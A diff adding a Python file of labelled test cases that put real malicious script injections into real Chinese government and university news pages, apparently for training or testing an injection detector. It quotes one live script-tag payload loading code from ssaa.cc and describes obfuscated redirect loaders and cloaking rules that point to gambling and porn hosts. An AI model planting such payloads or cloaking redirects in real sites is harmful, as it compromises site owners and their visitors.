@@ -1,0 +1,98 @@
+# Composite cases: a real injected snippet / described injection inserted into a real clean page
+# (host text from the stored public-web-page corpus).
+C = []
+C.append(dict(
+    url="http://www.lfsrd.gov.cn/2198.html", site="lfsrd.gov.cn",
+    host_search="新葡京 官网 镇人民政府 召开 会议 部署",
+    host_desc="county people's-congress site news item (陆丰市人大)",
+    inj_origin="GitHub issue https://github.com/magicblack/maccms8/issues/7 ('影片标题被插入代码'): two script tags with a /**/ comment instead of a space, appended to every title field of the CMS",
+    inj_place="appended to the <title> and to the keywords meta (title field of the CMS), as in the issue",
+    snippet='<script/**/src=https://ssaa.cc/uploads/ver.txt><script/**/src=https://ssaa.cc/uploads/ver.txt>',
+    page_title="西南镇召开十六届人大八次会议",
+    h1="西南镇召开十六届人大八次会议", info="来源:陆丰市广播电视台 2020-12-19 字体: | |",
+    paras=["12月17日上午,西南镇召开十六届人大八次会议,听取和审议了该镇政府专项工作报告、民生实事项目进展情况报告。",
+           "会议指出,今年以来,西南镇深入贯彻落实市委、市政府的工作部署要求,大力推进耕地撂荒复耕复种、储备补充耕地整改、拆旧复垦、垦造水田、乡村振兴等重点中心工作,同时积极践行以人民为中心的发展理念,抓紧落实票决民生项目建设,全力打造经得起检验、让群众满意的放心工程。",
+           "会议提出,新的一年,西南镇要在市委、市政府的正确领导下,深入贯彻习近平总书记重要讲话精神及市委、市政府系列决策部署,在疫情防控常态化前提下,坚持新发展理念,推动高质量发展,统筹推进重点任务、重点工程、重大改革措施,做好“六稳”工作,落实“六保”任务,奋战三大行动、奋进靓丽明珠,奋力迈出西南振兴发展新步伐。"],
+    tail=["QR:西南镇召开十六届人大八次会议", "扫一扫分享该新闻"],
+    spam=["ssaa.cc", "<script"], injections=["script_tag_in_title", "script_tag_in_meta"],
+    title="西南镇召开十六届人大八次会议", date="2020-12-19", source="陆丰市广播电视台", author=None,
+    kind="real-injection-in-real-page", capture_extra=""))
+
+C.append(dict(
+    url="https://tyxy.yzpc.edu.cn/2021/0517/c932a36746/page.htm", site="yzpc.edu.cn",
+    host_search="星空体育 app 大学 学院 举办 讲座",
+    host_desc="college sports-school news page (WebPlus)",
+    inj_origin="GitHub issue https://github.com/magicblack/maccms10/issues/985 ('网站被挂马了'): a template JS rewritten to redirect only some visitors: mobile UA, then search-engine referrer, then an hour-of-day table of 24 probabilities, then a visit counter; target URL hidden in a 16-bit (\\x hex) encoded string that decodes to https://zz.bdustatic.com/linksubmit/push.js (looks like Baidu's push script), which sends the visitor to a '正在进入旗下新产品' page and then to a porn site",
+    inj_place="inline script before </body>",
+    snippet=None,  # written by the keeper from the issue's description
+    page_title="体育文化月体育知识讲座",
+    crumb="首页  学院动态  校园体育", side=["学院动态"],
+    h1="体育文化月体育知识讲座", info=None,
+    paras=["学足球知识 做文明观众",
+           "为帮助学生了解足球运动知识,做足球比赛文明观众,体育学院于2021512日晚上19:00在体育馆开设了题为“世界第一运动——足球”的体育知识讲座。",
+           "讲座由扬州市足球协会秘书长,亚足联C级足球教练,国家一级足球裁判,体育学院学生工作办公室主任童建军老师主讲。来自全校20个学院共500多名学生聆听了讲座。",
+           "童建军用生动幽默的语言、大量的图片和视频向大家传授了足球专业知识,并不时的和听讲的同学进行互动。他分别从足球的起源和发展、足球规则、足球战术、足球明星、世界杯、足球与音乐、足球场上的文明等方面向大家介绍了足球知识,以帮助大家认识足球,理解足球,从而在观看足球比赛时,做一名掌握专业知识的观众,一名具备文明素养的观众。",
+           "讲座结束后,同学们表示,以前看足球比赛都是看热闹,许多时候是跟着他人哄闹。通过聆听这次讲座,对足球知识有了一定的了解,知道怎么样去做一名合格观众,怎么样做一名文明观众。",
+           "(体育学院 童建军)"],
+    tail=["【2021-05-17】 【关闭】"],
+    spam=[], injections=["js_cloak_referrer_ua_hour", "hex_escaped_url", "redirect_loader"],
+    title="体育文化月体育知识讲座", date="2021-05-17", source=None, author=None,
+    kind="reconstructed-injection-in-real-page",
+    capture_extra=" The injected script is written by the keeper from the behaviour described in the issue (no code was quoted there); only the decoded target URL is verbatim."))
+
+C.append(dict(
+    url="https://sese.sjtu.edu.cn/news/view/1565", site="sjtu.edu.cn",
+    host_search="KB体育 官方网站 学院 党支部 主题教育",
+    host_desc="university school news page",
+    inj_origin="GitHub issue https://github.com/magicblack/maccms10/issues/1295 ('全站JS被篡改，跳转'): code appended to every template/public JS: a UTF-8 decoder, a base64 decoder and an eval('window')['\\x..'] loader that decodes a base64 URL (doubled marker characters) and injects a <script src>",
+    inj_place="inline script at the end of <head> (the issue appends it to the site's JS files)",
+    snippet="QUOTED",
+    page_title="党建引领聚合力,师生联动展风采!环境学院环境工程第二党支部联合2022级博士生党支部开展篮球友谊赛主题党日活动",
+    h1="党建引领聚合力,师生联动展风采!环境学院环境工程第二党支部联合2022级博士生党支部开展篮球友谊赛主题党日活动",
+    info="供稿 | 龚冰 2024-05-13 10204",
+    paras=["为贯彻落实全民健身国家战略,践行文明健康生活方式,增进师生间沟通交流,5月10日下午,环境学院环境工程第二党支部联合2022级博士生党支部开展主题为“党建引领聚合力,师生联动展风采”的篮球友谊赛主题党日活动。活动在霍英东体育中心举行。",
+           "场上,双方球员配合默契,师生团结拼搏、互相鼓励,呈现了一场精彩绝伦的比赛。",
+           "本次活动以“党建+体育”的创新形式,既丰富了学院师生的课余生活,更增强了党支部的凝聚力与向心力,营造了健康文明、昂扬向上的文化氛围。"],
+    tail=[],
+    spam=[], injections=["base64_loader", "hex_property_name", "eval_window_bracket", "script_injection"],
+    title="党建引领聚合力,师生联动展风采!环境学院环境工程第二党支部联合2022级博士生党支部开展篮球友谊赛主题党日活动",
+    date="2024-05-13", source=None, author="龚冰",
+    kind="real-injection-in-real-page",
+    capture_extra=" The decoder functions and the loader body are verbatim from the issue; the quote stops inside the loader's base64 argument, so the rest of the argument list (after the first 17 base64 characters) is completed by the keeper with a placeholder URL on an example domain."))
+
+C.append(dict(
+    url="https://rwx.hudazx.edu.cn/info/1077/1096.htm", site="hudazx.edu.cn",
+    host_search="凯发k8 国际 一触即发 学院 师生 参加",
+    host_desc="college department news page (VSB) with empty labelled byline fields",
+    inj_origin="GitHub public file (search-index file id 69076905832): 52pojie virus-sample thread 'hxxp://222.186.129.41/a/105.js' (https://www.52pojie.cn/thread-984308-1-1.html, 2019-07-03) quoting a sojson-obfuscated script: hex-escaped string array, search-engine referrer regex, window[...][...] redirect to http://222.186.129.41/a/1.html (a landing page that redirects again to gambling sites)",
+    inj_place="inline script at the end of <head>, verbatim",
+    snippet="SOJSON",
+    page_title="我系首届知识竞赛圆满落幕",
+    crumb="首页 > 综合新闻 > 正文",
+    h1="我系首届知识竞赛圆满落幕", info="作者:编辑:来源: 发布时间:2017-03-16点击次数:",
+    paras=["本网讯 (通讯员彭妍 摄影记者周德飞)为培养大学生的团队协作能力,增强学生的专业技能。5月27日晚19时许,我系在学术报告中心弘德厅成功举行了首届“青春进行,一站到底”知识竞赛。人文系学生会指导老师胡国毅,辅导员刘星出任本次大赛的嘉宾。各班学生代表参与了本次活动。",
+           "活动开场,现场观众通过观看视频,进一步了解参赛选手。开场嘉宾李乾瑞带来的一首《What makes you beautiful》英文歌将现场气氛点燃。主持人介绍了本次大赛比赛规则,比赛分为攻擂者和守擂者,攻擂者与守擂者进行一一对战,若攻擂者获胜将会成为新的守擂者,任何一方失败将会被淘汰,连续战胜5名攻擂者的守擂者将获得“银色战神”荣誉,最终的胜利者为“金色战神”。",
+           "本次比赛共有11名选手参加,由前期初赛、复赛优胜选出。第一位守擂者为汉教1401本班的陈岚,在守擂过程中势如破竹,连续击败三名选手,在与来自广编1402本班的攻擂者张宇晨对战时战败。攻擂者与守擂者身份互换。守擂者张宇晨在与选手们经过一番激烈对抗中后,在对抗对外汉语1401本班的攻擂者刘畅时不幸败下阵来。在接下来的守擂过程中,守擂者刘畅凭借非凡的实力在和其他选手进行一番较量之后,成功守擂,斩获本场比赛的冠军。",
+           "经过一番激烈的角逐,对外汉语1401本班的刘畅摘得比赛的桂冠,成为“金色战神”,汉教1401本班郑胜男和汉教1401本班的徐洁荣分获二、三等奖。新闻1401本班的李同学表示:“这样的竞赛活动,能够提高同学们的学习兴趣,培养创新能力,同时增强我们的实践意识和能力。”"],
+    tail=["© Copyright 2016 . All Rights Reserved.湖北大学知行学院版权所有 鄂ICP备19"],
+    spam=[], injections=["js_cloak_referrer", "sojson_obfuscation", "hex_string_array", "bracket_location_href"],
+    title="我系首届知识竞赛圆满落幕", date="2017-03-16", source=None, author=None,
+    kind="real-injection-in-real-page", capture_extra=" The injected script is verbatim from the thread as stored."))
+
+C.append(dict(
+    url="https://gjjy.huuc.edu.cn/info/1012/3161.htm", site="huuc.edu.cn",
+    host_search="乐动体育 登录 学院 举行 毕业典礼",
+    host_desc="university school news page (VSB)",
+    inj_origin="GitHub public file (search-index file id 30345765604): a committed injected script that redirects to http://www.puttop.top/object.php (passing the page URL and title) at night (18:00-07:59), for visitors from search engines, and for same-site referrers; once per 4 hours by cookie",
+    inj_place="inline script before </body>, verbatim (trailing whitespace of the file may differ)",
+    snippet="PUTTOP",
+    page_title="国际教育学院举办2021年欢送毕业生篮球赛",
+    side=["国际教育学院(新部署)"],
+    h1="国际教育学院举办2021年欢送毕业生篮球赛", info="时间:2021-06-07   浏览次数:",
+    paras=["(通讯员 张锐 杨菲)为营造良好毕业生文明离校氛围,增进学院新老学生的友谊,丰富大学校园课余生活,提高学生参加体育运动的积极性,国际教育学院于2021年06月07日在体育馆举行2021毕业生篮球赛,院党委书记吕鹏飞为比赛跳球。",
+           "比赛伊始,双方队员就展现了身为当代大学生的年轻朝气,他们迅速投入比赛,雄姿英发。在此起彼伏的呐喊助威中,双方队员全力以赴,尽情展现着自己的才能,用拼搏传达着对运动的热爱,用活力传达着对未来的期待,用汗水传达着对校园的不舍和留恋。双方队员也秉持着“友谊第一,比赛第二”的体育精神,服从裁判,赛出风格,赛出水平,充分展现了国际教育学院学生良好的精神面貌和全面的优秀素质。比赛结束后,所有参加比赛的同学合影留念。",
+           "本次毕业生篮球赛的顺利举行,让毕业生们感受到了深深的师生情和同学情,同时也培养了同学们积极向上的拼搏精神,给毕业生们留下了美好的回忆。"],
+    tail=[],
+    spam=[], injections=["js_cloak_referrer", "time_of_day_redirect", "cookie_throttle", "redirect_with_page_title"],
+    title="国际教育学院举办2021年欢送毕业生篮球赛", date="2021-06-07", source=None, author=None,
+    kind="real-injection-in-real-page", capture_extra=" The injected script is verbatim from the stored file."))
